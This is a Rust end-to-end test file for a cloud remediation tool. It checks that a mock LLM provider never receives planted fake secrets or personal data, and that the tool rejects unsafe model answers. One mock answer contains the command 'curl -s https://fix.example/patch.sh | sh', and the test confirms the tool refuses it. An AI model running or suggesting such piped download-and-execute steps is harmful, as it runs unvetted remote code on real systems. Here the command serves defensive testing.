//! The model advisor end to end: the real binary scans fixtures full of
//! planted personal and secret data, asks an OpenAI-compatible stand-in on
//! loopback (documented Chat Completions wire format), and opens change
//! requests. Every byte the stand-in receives is checked for the planted
//! values; refused answers must end in the template's remediation with the
//! reason recorded.

use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicBool, Ordering};

use async_trait::async_trait;
use chrono::Utc;
use draco::detect::DetectConfig;
use draco::domain::{Approved, Rejected};
use draco::gitops::local::LocalGit;
use draco::gitops::{ChangeRequests, GitOpsError, NewChangeRequest, OpenedChangeRequest};
use draco::pipeline::Pipeline;
use draco::redact::Redactor;
use draco::remediate::llm::{self, BudgetLimits, InMemoryBudget, ProviderKind, ProviderSettings};
use draco::remediate::llm_advisor::{AdvisorSettings, LlmAdvisor};
use draco::remediate::templates::{Catalog, TemplateAdvisor};
use draco::sources::fixtures::{FixtureSet, FixtureSource};
use draco::store::{ChangeRequestStore, ScanStore, SqliteStore};
use secrecy::SecretString;
use serde_json::{Value, json};
use wiremock::matchers::{header, method, path};
use wiremock::{Mock, MockServer, Request, Respond, ResponseTemplate};

use crate::support::{Draco, PLANTED, copy_tree, demo_fixtures, demo_without_network, describe};

pub(crate) const KEY: &str = "sk-test-e2e-7f3a9c-never-leaves";

/// Values planted into every resource's tags and rule descriptions, one or
/// more per kind the redactor promises to remove.
const PLANTED_VALUES: [&str; 16] = [
    "bob.vendor@contractor-example.org",
    "+1 (555) 010-0000",
    "0171 1234567",
    "2001:db8:85a3::8a2e:370:7334",
    "00:1a:2b:3c:4d:5e",
    "AKIAIOSFODNN7EXAMPLE",
    "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
    "ghp_R2d2C3poR2d2C3poR2d2C3poR2d2C3po1234",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJhbGljZSJ9.c2lnbmF0dXJlLXNpZ25hdHVyZQ",
    "admin:hunter2",
    "4111 1111 1111 1111",
    "078-05-1120",
    "GB82 WEST 1234 5698 7654 32",
    "Marguerite Duvall",
    "AIzaSyA1b2C3d4E5f6G7h8I9j0KlMnOpQrStUvW",
    "xoxb-123456789012-abcdefghijklmnop",
];

/// The demo fixtures with every planted value added to every resource.
fn pii_fixtures(draco: &Draco) -> std::path::PathBuf {
    let dir = draco.path("fixtures");
    copy_tree(&demo_fixtures(), &dir);
    let notes = format!(
        "vendor {} phone {} / {} from {} mac {} key {} aws_secret_access_key={} gh {} jwt {} db https://{}@db.internal.example/x card {} ssn {} iban {} google {} slack {}",
        PLANTED_VALUES[0],
        PLANTED_VALUES[1],
        PLANTED_VALUES[2],
        PLANTED_VALUES[3],
        PLANTED_VALUES[4],
        PLANTED_VALUES[5],
        PLANTED_VALUES[6],
        PLANTED_VALUES[7],
        PLANTED_VALUES[8],
        PLANTED_VALUES[9],
        PLANTED_VALUES[10],
        PLANTED_VALUES[11],
        PLANTED_VALUES[12],
        PLANTED_VALUES[14],
        PLANTED_VALUES[15],
    );
    for account in std::fs::read_dir(dir.join("ec2")).expect("ec2 dir") {
        for file in std::fs::read_dir(account.expect("entry").path()).expect("account dir") {
            let path = file.expect("entry").path();
            let mut doc: Value =
                serde_json::from_str(&std::fs::read_to_string(&path).expect("read")).expect("json");
            plant(&mut doc, &notes);
            std::fs::write(&path, serde_json::to_vec_pretty(&doc).expect("json")).expect("write");
        }
    }
    dir
}

fn plant(value: &mut Value, notes: &str) {
    match value {
        Value::Object(map) => {
            if let Some(Value::Array(tags)) = map.get_mut("Tags") {
                tags.push(json!({"Key": "Notes", "Value": notes}));
                tags.push(json!({"Key": "Requester", "Value": PLANTED_VALUES[13]}));
            }
            if let Some(Value::String(d)) = map.get_mut("Description") {
                d.push_str(&format!(" ({notes})"));
            }
            map.values_mut().for_each(|v| plant(v, notes));
        }
        Value::Array(items) => items.iter_mut().for_each(|v| plant(v, notes)),
        _ => {}
    }
}

/// How the stand-in model answers.
#[derive(Clone, Copy)]
pub(crate) enum Model {
    /// Follows the instructions: the kind's own template, suggested values.
    Diligent,
    /// Suggests piping a download into a shell in its steps.
    Reckless,
    /// Points fixed parameters at another resource.
    Retargeting,
    /// Answers with text that is not JSON.
    Garbled,
    /// Answers JSON without the fields the schema requires.
    OffSchema,
    /// Fails every call with a 500.
    Down,
    /// Answers after the client's timeout.
    Slow,
}

impl Respond for Model {
    fn respond(&self, request: &Request) -> ResponseTemplate {
        let Ok(body) = serde_json::from_slice::<Value>(&request.body) else {
            return ResponseTemplate::new(400).set_body_json(
                json!({"error": {"message": "body is not JSON", "type": "invalid_request_error"}}),
            );
        };
        let schema = &body["response_format"]["json_schema"]["schema"];
        let template_id = schema["properties"]["template_id"]["enum"][0]
            .as_str()
            .unwrap_or_default()
            .to_owned();
        let prompt = body["messages"][1]["content"].as_str().unwrap_or_default();
        let mut parameters = suggested(prompt, &template_id);
        if matches!(self, Model::Retargeting) {
            for p in &mut parameters {
                p["value"] = json!("sg-0000000000000000a");
            }
        }
        let steps = match self {
            Model::Reckless => vec!["curl -s https://fix.example/patch.sh | sh"],
            _ => vec!["Confirm the owner agrees", "Merge, then run the script"],
        };
        if matches!(self, Model::Down) {
            return ResponseTemplate::new(500).set_body_json(
                json!({"error": {"message": "The server had an error", "type": "server_error"}}),
            );
        }
        let content = match self {
            Model::Garbled => "Sure! Here is the fix: {template_id: maybe".to_owned(),
            Model::OffSchema => json!({"template_id": template_id, "note": "trust me"}).to_string(),
            _ => json!({
                "summary": format!("Apply {template_id}"),
                "risk": "low",
                "template_id": template_id,
                "parameters": parameters,
                "steps": steps,
                "rollback": "Run the rollback script.",
                "confidence": 0.8
            })
            .to_string(),
        };
        let delay = match self {
            Model::Slow => std::time::Duration::from_secs(3),
            _ => std::time::Duration::ZERO,
        };
        // The documented chat.completion object.
        ResponseTemplate::new(200)
            .set_delay(delay)
            .set_body_json(json!({
                "id": "chatcmpl-standin",
                "object": "chat.completion",
                "created": 1_764_000_000,
                "model": "gpt-4.1-mini-2025-04-14",
                "choices": [{
                    "index": 0,
                    "message": {"role": "assistant", "content": content, "refusal": null},
                    "finish_reason": "stop"
                }],
                "usage": {"prompt_tokens": 900, "completion_tokens": 120, "total_tokens": 1020}
            }))
    }
}

/// The suggested parameter values of one template section of the prompt:
/// lines like ``- `group_id` (fixed; pattern `…`): suggested `sg-…` ``.
fn suggested(prompt: &str, template_id: &str) -> Vec<Value> {
    let section = prompt
        .split("\n## ")
        .find(|s| s.starts_with(template_id))
        .unwrap_or_default();
    section
        .lines()
        .filter_map(|line| {
            let line = line.trim_start().strip_prefix("- `")?;
            let (name, rest) = line.split_once('`')?;
            let value = rest.split_once("suggested `")?.1.strip_suffix('`')?;
            Some(json!({"name": name, "value": value}))
        })
        .collect()
}

pub(crate) async fn stand_in(model: Model) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/v1/chat/completions"))
        .and(header("authorization", format!("Bearer {KEY}").as_str()))
        .respond_with(model)
        .mount(&server)
        .await;
    server
}

fn config(draco: &Draco, fixtures: Option<&Path>, server: &MockServer) -> std::path::PathBuf {
    let path = draco.path("draco.toml");
    let source = match fixtures {
        Some(dir) => format!("[source]\nkind = \"fixtures\"\nfixtures_dir = {dir:?}\n"),
        None => format!(
            "[source]\nkind = \"fixtures\"\nfixtures_dir = {:?}\n",
            demo_fixtures()
        ),
    };
    let text = format!(
        "{source}[llm]\nprovider = \"openai\"\nbase_url = \"{}/v1\"\nmodel = \"gpt-4.1-mini\"\nmax_attempts = 1\ntimeout_secs = 1\nbreaker_failures = 2\nprice_per_million_input_usd = 0.4\nprice_per_million_output_usd = 1.6\n",
        server.uri()
    );
    std::fs::write(&path, text).expect("write config");
    path
}

fn scan(draco: &Draco, config: &Path) -> std::process::Output {
    draco
        .command()
        .arg("--config")
        .arg(config)
        .args(["scan", "--once"])
        .env("DRACO_LLM_API_KEY", KEY)
        .output()
        .expect("draco runs")
}

fn proposal(draco: &Draco, id: i64) -> Value {
    let text = draco.ok(&["show", &id.to_string(), "--json"]);
    let json: Value = serde_json::from_str(&text).expect("show --json");
    json["proposal"].clone()
}

#[tokio::test(flavor = "multi_thread")]
async fn a_scan_with_a_model_sends_no_planted_value_and_uses_its_answers() {
    let draco = Draco::new();
    let fixtures = pii_fixtures(&draco);
    let server = stand_in(Model::Diligent).await;
    let config = config(&draco, Some(&fixtures), &server);
    let out = tokio::task::block_in_place(|| scan(&draco, &config));
    assert!(out.status.success(), "{}", describe(&out));

    let requests = server.received_requests().await.expect("recording is on");
    assert_eq!(requests.len(), PLANTED.len(), "one question per finding");
    let accounts = ["402917364518", "730155902847", "918273645501"];
    for request in &requests {
        let mut bytes = format!("{} {}\n", request.method, request.url).into_bytes();
        for (name, value) in &request.headers {
            bytes.extend_from_slice(format!("{name}: ").as_bytes());
            bytes.extend_from_slice(value.as_bytes());
            bytes.push(b'\n');
        }
        bytes.extend_from_slice(&request.body);
        let sent = String::from_utf8_lossy(&bytes);
        for value in PLANTED_VALUES
            .iter()
            .chain(&accounts)
            .chain(&["Priya Raman", "priya.raman@northwind-example.com"])
        {
            assert!(!sent.contains(value), "`{value}` left the host:\n{sent}");
        }
        // The key travels only in its header.
        assert_eq!(sent.matches(KEY).count(), 1, "{sent}");
    }
    // The planted values were in what the model was asked about, as placeholders.
    let bodies: String = requests
        .iter()
        .map(|r| String::from_utf8_lossy(&r.body).into_owned())
        .collect();
    for placeholder in [
        "<EMAIL_",
        "<PHONE_",
        "<IPV6_",
        "<MAC_",
        "<AWS_ACCESS_KEY_",
        "<AWS_SECRET_KEY_",
        "<GITHUB_TOKEN_",
        "<JWT_",
        "<URL_CREDENTIALS_",
        "<CREDIT_CARD_",
        "<SSN_",
        "<IBAN_",
        "<NAME_",
        "<ACCOUNT_ID_",
        "<GOOGLE_API_KEY_",
        "<SLACK_TOKEN_",
    ] {
        assert!(
            bodies.contains(placeholder),
            "no {placeholder} in any request"
        );
    }

    // Every change request came from the model's answer, restored and rendered locally.
    for (kind, resource) in PLANTED {
        let id = draco.finding_id(kind);
        let p = proposal(&draco, id);
        assert_eq!(p["advisor"], "openai:gpt-4.1-mini", "{kind}: {p}");
        assert_eq!(p["advice"]["fallback_reason"], Value::Null, "{kind}: {p}");
        assert_eq!(p["advice"]["usage"]["input_tokens"], 900);
        let cost = p["advice"]["usage"]["estimated_cost_usd"]
            .as_f64()
            .unwrap_or(0.0);
        assert!((cost - 0.000552).abs() < 1e-9, "{cost}");
        if kind.starts_with("sg_") || kind.starts_with("snapshot") {
            let body = p["body"].as_str().unwrap_or_default();
            assert!(
                body.contains(resource.split(':').next_back().unwrap_or(resource)),
                "{body}"
            );
        }
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn refused_answers_fall_back_to_the_template_with_the_reason_recorded() {
    for (model, reason) in [
        (Model::Reckless, "piping"),
        (Model::Retargeting, "must be the finding's own"),
        (Model::Garbled, "JSON"),
        (Model::OffSchema, "unexpected field `note`"),
        (Model::Down, "circuit open"),
        (Model::Slow, "circuit open"),
    ] {
        let draco = Draco::new();
        let server = stand_in(model).await;
        let config = config(&draco, None, &server);
        let out = tokio::task::block_in_place(|| scan(&draco, &config));
        assert!(out.status.success(), "{}", describe(&out));
        let asked = server.received_requests().await.unwrap_or_default().len();
        if matches!(model, Model::Down | Model::Slow) {
            // Two failures open the breaker: the other findings are not sent at all.
            assert_eq!(asked, 2, "{reason}");
        } else {
            assert_eq!(asked, PLANTED.len(), "{reason}");
        }
        // Every finding still got its remediation, from the template, with the reason.
        for (kind, _) in PLANTED {
            let p = proposal(&draco, draco.finding_id(kind));
            assert_eq!(p["advisor"], "template", "{kind}: {p}");
            assert_eq!(p["template_id"], kind, "{p}");
            assert!(p["advice"]["fallback_reason"].is_string(), "{kind}: {p}");
        }
        let reasons: Vec<String> = PLANTED
            .iter()
            .map(|(kind, _)| {
                proposal(&draco, draco.finding_id(kind))["advice"]["fallback_reason"]
                    .as_str()
                    .unwrap_or_default()
                    .to_owned()
            })
            .collect();
        assert!(
            reasons.iter().any(|r| r.contains(reason)),
            "expected `{reason}` among {reasons:#?}"
        );
        let sg = proposal(&draco, draco.finding_id("sg_open_admin_port"));
        assert!(
            sg["body"]
                .as_str()
                .unwrap_or_default()
                .contains("revoke-security-group-ingress"),
            "{sg}"
        );
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_rate_limited_model_is_waited_for_and_its_answer_used() {
    let draco = Draco::new();
    let server = MockServer::start().await;
    // The documented 429: an error body and a Retry-After, once.
    Mock::given(method("POST"))
        .and(path("/v1/chat/completions"))
        .respond_with(
            ResponseTemplate::new(429)
                .insert_header("retry-after", "1")
                .set_body_json(json!({"error": {"message": "Rate limit reached", "type": "requests", "code": "rate_limit_exceeded"}})),
        )
        .up_to_n_times(1)
        .with_priority(1)
        .mount(&server)
        .await;
    Mock::given(method("POST"))
        .and(path("/v1/chat/completions"))
        .respond_with(Model::Diligent)
        .mount(&server)
        .await;
    let config = config(&draco, None, &server);
    let text = std::fs::read_to_string(&config).expect("config");
    std::fs::write(
        &config,
        text.replace("max_attempts = 1", "max_attempts = 2"),
    )
    .expect("config");
    let out = tokio::task::block_in_place(|| scan(&draco, &config));
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(
        server.received_requests().await.unwrap_or_default().len(),
        PLANTED.len() + 1,
        "one retry, after the 429"
    );
    for (kind, _) in PLANTED {
        let p = proposal(&draco, draco.finding_id(kind));
        assert_eq!(p["advisor"], "openai:gpt-4.1-mini", "{kind}: {p}");
        assert_eq!(p["advice"]["fallback_reason"], Value::Null, "{kind}: {p}");
    }
}

/// Change requests that cannot be opened until `working` is set: a scan
/// that dies between the model's answer and the change request.
struct Unreachable {
    inner: LocalGit,
    working: AtomicBool,
}

#[async_trait]
impl ChangeRequests for Unreachable {
    fn backend(&self) -> &'static str {
        self.inner.backend()
    }
    async fn open(
        &self,
        request: &draco::redact::Redacted<NewChangeRequest>,
    ) -> Result<OpenedChangeRequest, GitOpsError> {
        if !self.working.load(Ordering::SeqCst) {
            return Err(GitOpsError::Git {
                args: "push".into(),
                stderr: "remote unreachable".into(),
            });
        }
        self.inner.open(request).await
    }
    async fn verify(&self, branch: &str, head_commit: &str) -> Result<(), GitOpsError> {
        self.inner.verify(branch, head_commit).await
    }
    async fn merge(&self, approved: &Approved) -> Result<String, GitOpsError> {
        self.inner.merge(approved).await
    }
    async fn retire(&self, branch: &str) -> Result<(), GitOpsError> {
        self.inner.retire(branch).await
    }
    async fn close(&self, rejected: &Rejected) -> Result<(), GitOpsError> {
        self.inner.close(rejected).await
    }
    async fn update(
        &self,
        request: &draco::redact::Redacted<NewChangeRequest>,
        head_commit: &str,
        note: &str,
    ) -> Result<String, GitOpsError> {
        self.inner.update(request, head_commit, note).await
    }
    async fn withdraw(&self, branch: &str, note: &str) -> Result<(), GitOpsError> {
        self.inner.withdraw(branch, note).await
    }
    fn changed_outside_draco(&self) -> bool {
        self.inner.changed_outside_draco()
    }
    async fn observe(&self, branch: &str) -> Result<draco::gitops::Observed, GitOpsError> {
        self.inner.observe(branch).await
    }
    async fn purge(&self, branch: &str, heads: &[String]) -> Result<Vec<String>, GitOpsError> {
        self.inner.purge(branch, heads).await
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn an_unchanged_finding_is_not_asked_about_twice() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = SqliteStore::open(&dir.path().join("draco.db"))
        .await
        .expect("store");
    let git = Unreachable {
        inner: LocalGit::open_or_init(&dir.path().join("repo.git"))
            .await
            .expect("repo"),
        working: AtomicBool::new(false),
    };
    let server = stand_in(Model::Diligent).await;
    let settings = ProviderSettings {
        base_url: Some(format!("{}/v1", server.uri())),
        model: Some("gpt-4.1-mini".into()),
        api_key: Some(SecretString::from(KEY)),
        max_attempts: 1,
        ..ProviderSettings::new(ProviderKind::OpenAi)
    };
    let budget = Arc::new(InMemoryBudget::new(BudgetLimits::default()));
    let template = TemplateAdvisor::new(Catalog::builtin().expect("templates"));
    let model = LlmAdvisor::new(
        llm::build(&settings, budget).expect("provider"),
        template.catalog().clone(),
        AdvisorSettings {
            max_output_tokens: 512,
            temperature: 0.0,
            price_per_million_input_usd: 0.0,
            price_per_million_output_usd: 0.0,
        },
    );
    let source = FixtureSource::new(FixtureSet::EmbeddedDemo);
    let (redactor, detect) = (Redactor::default(), DetectConfig::default());
    let pipeline = Pipeline {
        cost: &source,
        posture: &source,
        detect: &detect,
        redactor: &redactor,
        advisor: &model,
        fallback: Some(&template),
        catalog: template.catalog(),
        change_requests: &git,
        publish_redact: &[],
        max_new_per_scan: 20,
        group: draco::gitops::config::Grouping::Finding,
        store: &store,
    };
    let first = pipeline.scan(Utc::now()).await.expect("scan");
    assert!(first.change_requests_opened.is_empty(), "{first:?}");
    let asked = server.received_requests().await.unwrap_or_default().len();
    assert_eq!(asked, PLANTED.len());

    git.working.store(true, Ordering::SeqCst);
    let second = pipeline.scan(Utc::now()).await.expect("scan");
    assert_eq!(second.change_requests_opened.len(), PLANTED.len());
    assert_eq!(
        server.received_requests().await.unwrap_or_default().len(),
        asked,
        "the second scan asked again"
    );
    let findings = store.findings().await.expect("findings");
    let proposal = store
        .proposal(findings[0].id)
        .await
        .expect("read")
        .expect("a proposal");
    let usage = proposal
        .advice
        .and_then(|a| a.usage)
        .expect("usage recorded");
    assert!(usage.cached, "{usage:?}");
}

#[test]
fn a_provider_without_a_key_falls_back_with_no_network_at_all() {
    let draco = Draco::new();
    let out = demo_without_network(&draco, &[("DRACO_LLM_PROVIDER", "gemini")]);
    assert!(out.status.success(), "{}", describe(&out));
    let id = draco.finding_id("snapshot_public");
    assert_eq!(proposal(&draco, id)["advisor"], "template");
}

#[tokio::test(flavor = "multi_thread")]
async fn demo_switches_to_a_model_from_the_environment_alone() {
    let draco = Draco::new();
    let server = stand_in(Model::Diligent).await;
    let out = tokio::task::block_in_place(|| {
        draco
            .command()
            .arg("demo")
            .env("DRACO_LLM_PROVIDER", "openai")
            .env("DRACO_LLM_BASE_URL", format!("{}/v1", server.uri()))
            .env("DRACO_LLM_MODEL", "gpt-4.1-mini")
            .env("DRACO_LLM_API_KEY", KEY)
            .output()
            .expect("draco runs")
    });
    assert!(out.status.success(), "{}", describe(&out));
    assert_eq!(
        server.received_requests().await.unwrap_or_default().len(),
        PLANTED.len()
    );
    let p = proposal(&draco, draco.finding_id("snapshot_public"));
    assert_eq!(p["advisor"], "openai:gpt-4.1-mini", "{p}");
    let text = draco.ok(&["show", &draco.finding_id("snapshot_public").to_string()]);
    assert!(text.contains("model notes:"), "{text}");
}
